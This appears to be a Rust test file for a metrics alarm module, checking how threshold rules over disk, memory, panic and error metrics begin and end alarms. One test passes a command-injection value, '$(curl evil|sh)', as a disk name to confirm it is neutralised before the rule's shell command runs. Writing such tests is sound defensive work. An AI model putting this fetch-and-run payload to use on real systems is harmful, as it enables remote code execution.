//! Rules over time: what is measured every ten seconds, and what comes of it.

use proptest::prelude::*;

use super::*;
use crate::metrics::distribution::Distribution;
use crate::metrics::name::{
    AGENT_DELIVERY_LAG, DISK_USED_PERCENT, MEM_USED_PERCENT, PANICS, RESPONSE_TIME, RESPONSES_5XX,
};

/// A whole minute.
const T0: i64 = 1_767_571_200;

/// The moment, and the time of day.
fn both(now_ns: i64) -> (i64, i64) {
    (now_ns, now_ns)
}

fn rule(name: &str, metric: &'static Metric, statistic: &str, period_s: u32, datapoints: (u32, u32)) -> Rule {
    Rule {
        name: name.to_owned(),
        metric,
        statistic: statistic.to_owned(),
        period_s,
        datapoints,
        comparison: Comparison::GreaterThanOrEqualToThreshold,
        threshold: 95.0,
        missing: Missing::Missing,
        says: "disk {of} is {value} % full".to_owned(),
        over: "disk {of} has room again".to_owned(),
        run: vec!["df -h {of}".to_owned()],
        while_down: true,
    }
}

fn disk() -> Rule {
    rule("disk-full", &DISK_USED_PERCENT, "Maximum", 60, (2, 2))
}

fn thresholds(rules: Vec<Rule>, before: &[&str]) -> Thresholds {
    let before = before.iter().map(|key| (*key).to_owned()).collect();
    Thresholds::new("StartTech/Backend", rules, before, T0 * SECOND)
}

fn reading(metric: &'static Metric, of: Option<&str>, value: f64) -> Reading {
    Reading { metric, of: of.map(str::to_owned), value }
}

/// Every ten seconds what `at` gives, and when something came of it, in seconds.
fn play(
    thresholds: &mut Thresholds,
    from_s: i64,
    to_s: i64,
    at: impl Fn(i64) -> Vec<Reading>,
) -> Vec<(i64, Turn)> {
    let mut turns = Vec::new();
    for second in from_s..to_s {
        let now_ns = (T0 + second) * SECOND;
        if second % 10 == 5 {
            thresholds.take(&at(second), now_ns);
        }
        if thresholds.next().is_some_and(|due| due <= now_ns) {
            turns.extend(thresholds.due(now_ns).into_iter().map(|turn| (second, turn)));
        }
    }
    turns
}

fn ends(turns: &[(i64, Turn)]) -> Vec<(i64, &str)> {
    let mut ends = Vec::new();
    for (at, turn) in turns {
        if let Turn::End(key, _) = turn {
            ends.push((*at, key.as_str()));
        }
    }
    ends
}

fn begins(turns: &[(i64, Turn)]) -> Vec<(i64, String)> {
    let begin = |(at, turn): &(i64, Turn)| match turn {
        Turn::Begin(crossed) => Some((*at, crossed.says.clone())),
        Turn::End(..) => None,
    };
    turns.iter().filter_map(begin).collect()
}

#[test]
fn each_disk_by_itself_begins_when_its_periods_are_full_and_ends() {
    let mut thresholds = thresholds(vec![disk()], &[]);
    let at = |second: i64| {
        let full = (60..300).contains(&second);
        let data = if full { 97.25 } else { 50.0 };
        vec![reading(&DISK_USED_PERCENT, Some("/"), 40.0), reading(&DISK_USED_PERCENT, Some("/data"), data)]
    };
    let turns = play(&mut thresholds, 1, 600, at);
    assert_eq!(begins(&turns), [(180, "disk /data is 97.2 % full".to_owned())]);
    assert_eq!(ends(&turns), [(360, "disk-full /data")]);
    let Turn::Begin(crossed) = &turns[0].1 else { panic!() };
    assert_eq!(crossed.run, ["df -h /data"]);
    assert_eq!(crossed.over, "disk /data has room again");
    assert!(crossed.reason.starts_with("Threshold Crossed: 2"), "{}", crossed.reason);
    assert_eq!(crossed.alarm.dimensions[0].value, "/data");
}

#[test]
fn periods_of_ten_seconds_are_looked_at_every_ten_seconds() {
    let panic = Rule { threshold: 1.0, ..rule("panic", &PANICS, "Sum", 10, (1, 30)) };
    let mut thresholds = thresholds(vec![panic], &[]);
    let mut turns = Vec::new();
    for second in 1..500 {
        let now_ns = (T0 + second) * SECOND;
        if second % 10 == 5 {
            let sum = if second == 105 || second == 125 { 1.0 } else { 0.0 };
            let point = Datapoint {
                metric: &PANICS,
                of: None,
                time_ms: now_ns / 1_000_000 - 30_000,
                values: Values::Sum(sum),
            };
            thresholds.take_lines(&[point], 60, (now_ns, now_ns));
        }
        turns.extend(thresholds.due(now_ns).into_iter().map(|turn| (second, turn)));
    }
    assert_eq!(begins(&turns).len(), 1);
    assert_eq!(turns[0].0, 110);
    assert_eq!(ends(&turns), [(430, "panic")]);
}

#[test]
fn lines_of_a_backlog_say_nothing_of_now() {
    let burst = Rule { threshold: 1.0, ..rule("failures", &RESPONSES_5XX, "Sum", 10, (1, 1)) };
    let mut thresholds = thresholds(vec![burst], &[]);
    let point = |ago_s: i64| Datapoint {
        metric: &RESPONSES_5XX,
        of: None,
        time_ms: (T0 + 5 - ago_s) * 1000,
        values: Values::Sum(99.0),
    };
    thresholds.take_lines(&[point(3600)], 60, both((T0 + 5) * SECOND));
    thresholds.take_lines(&[point(200)], 60, both((T0 + 5) * SECOND));
    assert_eq!(thresholds.due((T0 + 10) * SECOND), []);
    thresholds.take_lines(&[point(290)], 300, both((T0 + 15) * SECOND));
    assert_eq!(thresholds.due((T0 + 20) * SECOND).len(), 1);
}

#[test]
fn lines_of_now_count_after_the_clock_was_set_back() {
    let burst = Rule { threshold: 1.0, ..rule("failures", &RESPONSES_5XX, "Sum", 10, (1, 1)) };
    let mut thresholds = thresholds(vec![burst], &[]);
    let wall_s = T0 - 3600;
    let point =
        Datapoint { metric: &RESPONSES_5XX, of: None, time_ms: wall_s * 1000, values: Values::Sum(99.0) };
    thresholds.take_lines(&[point], 60, ((T0 + 5) * SECOND, wall_s * SECOND));
    assert_eq!(thresholds.due((T0 + 10) * SECOND).len(), 1);
}

#[test]
fn who_comes_late_has_not_missed_a_minute() {
    let mut late = thresholds(vec![disk()], &[]);
    for second in (5..115).step_by(10) {
        late.take(&[reading(&DISK_USED_PERCENT, Some("/data"), 97.0)], (T0 + second) * SECOND);
    }
    assert_eq!(late.due((T0 + 135) * SECOND).len(), 1, "the minute was over fifteen seconds ago");
    assert_eq!(late.due((T0 + 145) * SECOND), []);
}

#[test]
fn what_a_stranger_wrote_is_no_command() {
    let crossed = |of: &str| disk().crossed(Some(of.to_owned()), "N", Some(1.0), String::new());
    assert_eq!(crossed("/var/lib/docker-2 a").run, ["df -h /var/lib/docker-2 a"]);
    let hostile = crossed("$(curl evil|sh)`x`';\n\"");
    assert_eq!(hostile.run, ["df -h ??curl evil?sh??x?????"]);
    assert!(hostile.says.contains("$(curl evil|sh)"), "{}", hostile.says);
}

#[test]
fn percentiles_of_what_lines_said_can_be_looked_at() {
    let slow = Rule { threshold: 1.0, ..rule("slow", &RESPONSE_TIME, "p90", 10, (1, 1)) };
    let mut thresholds = thresholds(vec![slow], &[]);
    let mut times = Distribution::default();
    (0..100).for_each(|n| assert!(times.add(if n < 80 { 0.1 } else { 2.5 })));
    let point = Datapoint {
        metric: &RESPONSE_TIME,
        of: None,
        time_ms: T0 * 1000,
        values: Values::Distribution(times),
    };
    thresholds.take_lines(&[point], 60, both((T0 + 5) * SECOND));
    assert_eq!(thresholds.due((T0 + 10) * SECOND).len(), 1);
}

#[test]
fn after_a_restart_what_was_open_is_not_told_again_and_ends_when_that_is_sure() {
    let full = |_: i64| vec![reading(&DISK_USED_PERCENT, Some("/"), 99.0)];
    let room = |_: i64| vec![reading(&DISK_USED_PERCENT, Some("/"), 9.0)];
    let mut still = thresholds(vec![disk()], &["disk-full /"]);
    assert_eq!(play(&mut still, 1, 900, full), []);
    assert_eq!(ends(&play(&mut still, 900, 1200, room)), [(960, "disk-full /")]);
    // A gap of the first minutes is no end.
    let not_breaching = Rule { missing: Missing::NotBreaching, ..disk() };
    let mut late = thresholds(vec![not_breaching], &["disk-full /"]);
    assert_eq!(play(&mut late, 1, 900, full), []);
    let mut over = thresholds(vec![disk()], &["disk-full /"]);
    assert_eq!(ends(&play(&mut over, 1, 900, room)).len(), 1);
}

#[test]
fn what_is_not_there_any_more_is_over() {
    let full = |of: &'static str| move |_: i64| vec![reading(&DISK_USED_PERCENT, Some(of), 99.0)];
    let mut thresholds = thresholds(vec![disk()], &["disk-full /old", "no-such-rule"]);
    let turns = play(&mut thresholds, 1, 200, full("/usb"));
    assert_eq!(begins(&turns).len(), 1);
    let turns = play(&mut thresholds, 200, 1000, full("/"));
    let over = ends(&turns);
    assert_eq!(
        over.iter().map(|(_, key)| *key).collect::<Vec<_>>(),
        ["disk-full /old", "no-such-rule", "disk-full /usb"]
    );
    assert!(over.iter().all(|(at, _)| (600..=810).contains(at)), "{over:?}");
}

#[test]
fn other_rules_look_at_what_was_measured_before() {
    let mut thresholds = thresholds(vec![disk()], &[]);
    let at = |_: i64| vec![reading(&DISK_USED_PERCENT, Some("/"), 90.0)];
    assert_eq!(play(&mut thresholds, 1, 300, at), []);
    let stricter = Rule { threshold: 85.0, ..disk() };
    thresholds.replace(vec![stricter.clone()], BTreeSet::new(), (T0 + 300) * SECOND);
    let turns = play(&mut thresholds, 300, 400, at);
    assert_eq!(begins(&turns).len(), 1, "{turns:?}");
    assert_eq!(turns[0].0, 360);
    // The same again changes nothing.
    thresholds.replace(vec![stricter], BTreeSet::new(), (T0 + 400) * SECOND);
    assert_eq!(play(&mut thresholds, 400, 700, at), []);
}

#[test]
fn what_nothing_is_measured_of_is_told_so_or_lasts_as_the_rule_says() {
    let full = |_: i64| vec![reading(&DISK_USED_PERCENT, Some("/"), 99.0)];
    for (missing, end) in [
        (Missing::Missing, Some(Change::Unmeasured)),
        (Missing::NotBreaching, Some(Change::Over)),
        (Missing::Breaching, None),
        (Missing::Ignore, None),
    ] {
        let mut thresholds = thresholds(vec![Rule { missing, ..disk() }], &[]);
        assert_eq!(begins(&play(&mut thresholds, 1, 300, full)).len(), 1);
        let turns = play(&mut thresholds, 300, 5000, |_| Vec::new());
        let told: Vec<_> = turns.iter().map(|(_, turn)| turn.clone()).collect();
        let wanted: Vec<_> =
            end.map(|change| Turn::End("disk-full /".to_owned(), change)).into_iter().collect();
        assert_eq!(told, wanted, "{missing:?}");
        assert_eq!(thresholds.is_crossed("disk-full /"), end.is_none());
    }
}

#[test]
fn values_are_as_one_says_them() {
    for (value, unit, text) in [
        (97.0, "Percent", "97"),
        (97.25, "Percent", "97.2"),
        (0.5, "Seconds", "0.50 s"),
        (360.0, "Seconds", "6 min"),
    ] {
        assert_eq!(written(value, unit), text);
    }
}

#[test]
fn a_hostile_dimension_stays_in_its_line() {
    let mut thresholds = thresholds(vec![disk()], &[]);
    let path = format!("/mnt/\u{1b}[31m\n{}", "x".repeat(5000));
    let at = |_: i64| vec![reading(&DISK_USED_PERCENT, Some(&path), 99.0)];
    let turns = play(&mut thresholds, 1, 200, at);
    let says = &begins(&turns)[0].1;
    assert!(says.len() < 120 && !says.contains(char::is_control), "{says:?}");
}

proptest! {
    /// Beginnings and ends take turns, whatever is measured and however the clock goes.
    #[test]
    fn nothing_begins_twice(values in prop::collection::vec((0_u8..4, 0_i64..40), 1..200)) {
        let rules = vec![disk(), rule("memory-full", &MEM_USED_PERCENT, "Average", 30, (2, 3)), rule("lag", &AGENT_DELIVERY_LAG, "Minimum", 10, (1, 1))];
        let mut thresholds = thresholds(rules, &["disk-full /a"]);
        let mut open = BTreeSet::from(["disk-full /a".to_owned()]);
        let mut now_s = T0;
        for (what, after) in values {
            now_s += after;
            let value = if what % 2 == 0 { 99.0 } else { 1.0 };
            let readings = if what < 2 {
                vec![reading(&DISK_USED_PERCENT, Some("/a"), value), reading(&MEM_USED_PERCENT, None, value)]
            } else {
                vec![reading(&AGENT_DELIVERY_LAG, None, value)]
            };
            thresholds.take(&readings, now_s * SECOND);
            for turn in thresholds.due(now_s * SECOND) {
                match turn {
                    Turn::Begin(crossed) => prop_assert!(open.insert(crossed.key())),
                    Turn::End(key, _) => prop_assert!(open.remove(&key), "{}", key),
                }
            }
        }
    }
}
